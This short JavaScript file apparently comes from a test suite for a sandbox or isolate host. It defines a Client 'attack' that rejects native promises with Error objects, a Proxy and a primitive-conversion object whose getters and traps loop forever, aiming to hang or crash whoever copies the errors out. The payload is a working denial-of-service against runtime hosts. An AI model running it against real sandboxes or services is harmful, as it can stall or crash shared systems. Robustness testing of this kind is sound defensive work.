// Tries: to reject native promises, which no runtime looks at, with errors whose getters loop when whoever runs the
// isolate copies them out.
// Attack: call
// Ends: none | cpu | stuck | crash

const AsyncFunction = (0, eval)('(async () => {}).constructor');
const forever = () => {
  for (;;) {}
};
Client.prototype.attack = () => {
  const reject = new AsyncFunction('reason', 'throw reason');
  for (const name of ['message', 'stack', 'name', 'constructor', 'cause', 'toString']) {
    const hostile = new Error('across');
    Object.defineProperty(hostile, name, { get: forever });
    reject(hostile);
  }
  reject(
    new Proxy(new Error('across'), {
      get: forever,
      getPrototypeOf: forever,
      getOwnPropertyDescriptor: forever,
    }),
  );
  reject({ [Symbol.toPrimitive]: forever, toString: forever });
};
